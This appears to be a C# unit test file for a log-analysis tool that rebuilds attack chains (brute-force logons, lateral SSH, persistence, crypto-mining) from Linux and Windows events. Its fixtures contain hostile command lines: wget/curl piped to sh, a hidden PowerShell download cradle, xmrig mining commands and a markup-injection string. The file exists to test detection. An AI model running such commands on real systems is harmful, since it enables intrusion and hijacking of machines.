using Timeline.Core.Events;
using Timeline.Core.Findings;
using Timeline.Detection.Chain;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Detection.Chain;

public sealed class ChainBuilderTests
{
    private static readonly ChainOptions Options = new() { Knowledge = ChainKnowledge.Load(RepoPaths.Sigma) };
    private static readonly Dictionary<string, List<RuleMatch>> NoMatches = [];
    private const string Miner = "/var/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:443 --donate-level=0";

    private static IReadOnlyList<AttackChain> Build(ChainEvents ev, Dictionary<string, List<RuleMatch>>? matches = null, ChainOptions? options = null) =>
        ChainBuilder.Build(ev.Events, matches ?? NoMatches, options ?? Options);

    [Fact]
    public void BruteForceThenSuccessIsTheEntryWithFailuresUsersAndWindow()
    {
        var ev = new ChainEvents();
        ev.Failures("h1", "203.0.113.5", 0, 9, "root", "admin", "oracle");
        var login = ev.Accepted("h1", 2, "root", "203.0.113.5");
        ev.History("h1", 3, "root", "wget -q -O- http://203.0.113.9/x.sh | sh");
        var chain = Assert.Single(Build(ev));
        Assert.Equal("ssh-bruteforce-success", chain.Entry!.Kind);
        Assert.Equal(login.Id, chain.Entry.EventId);
        Assert.Contains("9 failed logons from 203.0.113.5", chain.Entry.Why);
        Assert.Contains("admin, oracle, root", chain.Entry.Why);
        Assert.Contains("(48 s)", chain.Entry.Why);
        Assert.Equal(AttackPhase.Entry, chain.Steps[0].Phase);
    }

    [Fact]
    public void AFirstSeenKeyAfterABaselineIsTheEntryWhenNoBruteForcePreceded()
    {
        var ev = new ChainEvents();
        ev.Accepted("h1", -180, "root", "198.51.100.10", "publickey", "SHA256:oldkeyoldkeyoldkeyoldkeyoldkeyoldkeyoldkeyo", "100");
        var newKey = ev.Accepted("h1", 0, "root", "198.51.100.10", "publickey", "SHA256:newkeynewkeynewkeynewkeynewkeynewkeynewkey", "200");
        ev.History("h1", 1, "root", Miner);
        var chain = Assert.Single(Build(ev));
        Assert.Equal("new-key", chain.Entry!.Kind);
        Assert.Equal(newKey.Id, chain.Entry.EventId);
        Assert.Contains("had not been used for 'root'", chain.Entry.Why);
    }

    [Fact]
    public void CronWorkOfAServiceAccountWithNoLoginIsAnExploitedService()
    {
        var ev = new ChainEvents();
        ev.Add("h1", "linux/cron", 0, "(CRON) bad minute (/var/spool/cron/redis)", ("event", "cron_error"), ("cron_user", "CRON"), ("reason", "bad minute"), ("path", "/var/spool/cron/redis"));
        ev.CronCmd("h1", 1, "redis", "wget -q -O - http://203.0.113.66/d.sh | sh");
        var chain = Assert.Single(Build(ev));
        Assert.Equal("exploited-service", chain.Entry!.Kind);
        Assert.Equal("redis", chain.Entry.User);
        Assert.Contains("no logon precedes it", chain.Entry.Why);
        Assert.Contains(chain.Response, a => a.Category == "fix-entry" && a.Action.Contains("requirepass", StringComparison.Ordinal));
    }

    [Fact]
    public void OrdinaryAdminActivityBuildsNoChain()
    {
        var ev = new ChainEvents();
        ev.Accepted("h1", 0, "deploy", "198.51.100.10", "publickey", "SHA256:deploydeploydeploydeploydeploydeploydeployd");
        ev.Add("h1", "linux/auth", 1, "sudo: deploy : COMMAND=/usr/bin/systemctl restart nginx", ("event", "sudo"), ("user", "deploy"), ("command", "/usr/bin/systemctl restart nginx"));
        ev.Failures("h1", "203.0.113.77", 5, 3, "oracle");
        ev.CronCmd("h1", 17, "root", "cd / && run-parts --report /etc/cron.hourly");
        ev.Add("h1", "linux/cron", 20, "(root) REPLACE (root)", ("event", "cron_replace"), ("cron_user", "root"), ("cron_target", "root"));
        ev.History("h1", 2, "deploy", "git pull && make");
        ev.Add("h1", "linux/crontab", null, TimeQuality.OrderOnly, "30 2 * * * /usr/local/bin/backup.sh", ("event", "crontab_entry"), ("cron_user", "root"), ("schedule", "30 2 * * *"), ("command", "/usr/local/bin/backup.sh"), ("table", "user"));
        Assert.Empty(Build(ev));
    }

    [Fact]
    public void RepeatedCronRunsFoldIntoOneStepWithCountAndLastTime()
    {
        var ev = new ChainEvents();
        for (var i = 0; i < 500; i++) ev.CronCmd("h1", i, "root", Miner);
        var chain = Assert.Single(Build(ev));
        var step = Assert.Single(chain.Steps, s => s.Phase == AttackPhase.Mining);
        Assert.Contains("×500", step.Summary);
        Assert.Equal(ChainEvents.T0.Ticks, chain.MiningStartTicks);
        Assert.Equal("persistence-without-login", chain.Entry!.Kind);
    }

    [Fact]
    public void ARuleOnAnEventNoAnalyticReadsBecomesAStepInTheRulesPhase()
    {
        var ev = new ChainEvents();
        ev.CronCmd("h1", 0, "root", Miner);
        var odd = ev.Add("h1", "linux/syslog", 1, "rsyslogd: imjournal: journal files changed, reloading", ("program", "rsyslogd"));
        var matches = new Dictionary<string, List<RuleMatch>>
        {
            [odd.Id] = [new RuleMatch(odd.Id, "r-1", "Syslog Cleared", "high", ["attack.defense-impairment", "attack.t1685.006"], "Test Author")],
        };
        var chain = Assert.Single(Build(ev, matches));
        var step = Assert.Single(chain.Steps, s => s.EventId == odd.Id);
        Assert.Equal(AttackPhase.Evasion, step.Phase);
        Assert.Equal(["r-1"], step.RuleIds);
        Assert.DoesNotContain(Build(ev).Single().Steps, s => s.EventId == odd.Id);
    }

    [Fact]
    public void ARuleOnALogonAttachesToTheEntryStep()
    {
        var ev = new ChainEvents();
        ev.Failures("h1", "203.0.113.5", 0, 6, "root");
        var login = ev.Accepted("h1", 1, "root", "203.0.113.5");
        ev.History("h1", 2, "root", Miner);
        var matches = new Dictionary<string, List<RuleMatch>> { [login.Id] = [new RuleMatch(login.Id, "bf-1", "SSH Brute Force Followed By Successful Login", "high", ["attack.t1110.001"], "a")] };
        var chain = Assert.Single(Build(ev, matches));
        Assert.Equal(["bf-1"], chain.Steps.Single(s => s.EventId == login.Id).RuleIds);
        Assert.Single(chain.Steps, s => s.EventId == login.Id);
    }

    [Fact]
    public void WeakCommandsJoinOnlyInsideTheAttackersSession()
    {
        var ev = new ChainEvents();
        ev.History("h1", -120, "root", "uname -a");
        ev.Failures("h1", "203.0.113.5", 0, 6, "root");
        ev.Accepted("h1", 1, "root", "203.0.113.5", pid: "77");
        var inSession = ev.History("h1", 2, "root", "uname -a");
        ev.History("h1", 3, "root", Miner);
        ev.Add("h1", "linux/auth", 4, "Disconnected from user root", ("event", "ssh_disconnect"), ("pid", "77"), ("user", "root"));
        var after = ev.History("h1", 300, "root", "cat /proc/cpuinfo");
        var chain = Assert.Single(Build(ev));
        Assert.Contains(chain.Steps, s => s.EventId == inSession.Id);
        Assert.DoesNotContain(chain.Steps, s => s.EventId == after.Id);
        Assert.Equal(1, chain.Steps.Count(s => s.Summary.Contains("uname", StringComparison.Ordinal)));
    }

    [Fact]
    public void WindowsRdpBruteForceToScheduledTaskAndWinRing0MinerIsOneChain()
    {
        var ev = new ChainEvents();
        for (var i = 0; i < 8; i++)
            ev.Windows("win01", i * 0.2, "4625", "logon_failed", ("TargetUserName", "administrator"), ("user", "administrator"), ("IpAddress", "-"), ("WorkstationName", "kali"), ("workstation", "kali"), ("LogonType", "3"), ("logon_type", "3"));
        var logon = ev.Windows("win01", 3, "4624", "logon_success", ("TargetUserName", "administrator"), ("user", "administrator"), ("IpAddress", "203.0.113.50"), ("src_ip", "203.0.113.50"), ("WorkstationName", "kali"), ("workstation", "kali"), ("LogonType", "10"), ("logon_type", "10"), ("TargetLogonId", "0x3e7f1"), ("logon_id", "0x3e7f1"));
        var ps = ev.Windows("win01", 4, "4688", "process_create", ("CommandLine", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.60/p.ps1')\""), ("command", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.60/p.ps1')\""), ("user", "administrator"));
        var task = ev.Windows("win01", 5, "4698", "task_create", ("TaskName", "\\Microsoft\\Windows\\UpdateCheck"), ("task_name", "\\Microsoft\\Windows\\UpdateCheck"), ("command", "C:\\ProgramData\\svc\\xmrig.exe -o pool.minexmr.com:4444 --donate-level=0"));
        var service = ev.Windows("win01", 6, "7045", "service_install", ("ServiceName", "WinRing0_1_2_0"), ("service_name", "WinRing0_1_2_0"), ("ImagePath", "C:\\ProgramData\\svc\\WinRing0x64.sys"));
        var cleared = ev.Windows("win01", 7, "1102", "log_cleared", ("SubjectUserName", "administrator"));
        var chain = Assert.Single(Build(ev));
        Assert.Equal("rdp-bruteforce-success", chain.Entry!.Kind);
        Assert.Equal(logon.Id, chain.Entry.EventId);
        Assert.Contains("8 failed logons", chain.Entry.Why);
        Assert.Equal(AttackPhase.Execution, chain.Steps.Single(s => s.EventId == ps.Id).Phase);
        Assert.Equal(AttackPhase.Persistence, chain.Steps.Single(s => s.EventId == task.Id).Phase);
        Assert.Equal(AttackPhase.Mining, chain.Steps.Single(s => s.EventId == service.Id).Phase);
        Assert.Equal(AttackPhase.Evasion, chain.Steps.Single(s => s.EventId == cleared.Id).Phase);
        Assert.Equal(ChainEvents.T0.AddMinutes(6).Ticks, chain.MiningStartTicks);
        Assert.Contains(chain.Gaps, g => g.Kind == "logs-cleared");
        Assert.Contains(chain.Response, a => a.Category == "remove" && a.Target == "\\Microsoft\\Windows\\UpdateCheck");
        Assert.Contains(chain.Response, a => a.Category == "remove" && a.Target == "WinRing0_1_2_0");
        Assert.Contains(chain.Response, a => a.Category == "block" && a.Target == "203.0.113.50");
        Assert.Contains(chain.Indicators, i => i.Type == "service" && i.Value == "WinRing0_1_2_0");
        Assert.Contains(chain.Response, a => a.Category == "fix-entry" && a.Action.Contains("RDP", StringComparison.Ordinal));
    }

    [Fact]
    public void AnOutboundSshMatchedInTimeAndUserLinksTwoHosts()
    {
        var ev = new ChainEvents();
        ev.Failures("a", "203.0.113.5", 0, 6, "root");
        ev.Accepted("a", 1, "root", "203.0.113.5");
        var ssh = ev.History("a", 2, "root", "ssh -i /root/.ssh/id_rsa root@10.1.1.2 'curl -s http://203.0.113.9/x | sh'");
        ev.Accepted("b", -600, "ops", "198.51.100.2", "publickey", "SHA256:opsopsopsopsopsopsopsopsopsopsopsopsopsopso");
        var inbound = ev.Accepted("b", 2.05, "root", "10.1.1.1", "publickey", "SHA256:k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k1k");
        ev.CronCmd("b", 5, "root", Miner);
        var chains = Build(ev);
        var b = chains.Single(c => c.Host == "b");
        Assert.Equal("lateral", b.Entry!.Kind);
        Assert.Equal(inbound.Id, b.Entry.EventId);
        var link = Assert.Single(b.Lateral);
        Assert.Equal(("a", "b", ssh.Id, inbound.Id), (link.FromHost, link.ToHost, link.FromEventId, link.ToEventId));
        Assert.Contains("10.1.1.1 is then a's address", link.Evidence);
        Assert.Single(chains.Single(c => c.Host == "a").Lateral);
    }

    [Fact]
    public void OrdinaryLogonsAreKeptInABoundedRing()
    {
        var host = new HostEvidence("h1", Options with { MaxPlainLogins = 100 });
        var analytic = new EventAnalytics(Options.Knowledge!);
        var ev = new ChainEvents();
        ev.Add("h1", "linux/syslog", -600, "boot", ("program", "kernel"));
        for (var i = 0; i < 5000; i++) ev.Accepted("h1", i * 0.01, "deploy", "198.51.100.10", "publickey", "SHA256:deploydeploydeploydeploydeploydeploydeployd", i.ToString(System.Globalization.CultureInfo.InvariantCulture));
        foreach (var e in ev.Events) analytic.Observe(e, host, null);
        // The first logon after the baseline is remarkable (new key, new address); the other 4,999 share a ring of 100.
        Assert.Single(host.RemarkableLogins);
        Assert.Equal(101, host.Logins.Count());
    }

    [Fact]
    public void MarkdownEscapesHostileEvidence()
    {
        var ev = new ChainEvents();
        ev.Failures("h1", "203.0.113.5", 0, 6, "root");
        ev.Accepted("h1", 1, "root", "203.0.113.5");
        ev.History("h1", 2, "root", "wget http://203.0.113.9/a`b|c <script>x</script> \u001b[31m\u202e | sh");
        var md = ChainMarkdown.Write(Build(ev));
        Assert.DoesNotContain("<script>", md, StringComparison.Ordinal);
        Assert.DoesNotContain("\u001b", md, StringComparison.Ordinal);
        Assert.DoesNotContain("\u202e", md, StringComparison.Ordinal);
        Assert.Contains("\\u{001B}", md, StringComparison.Ordinal);
    }
}
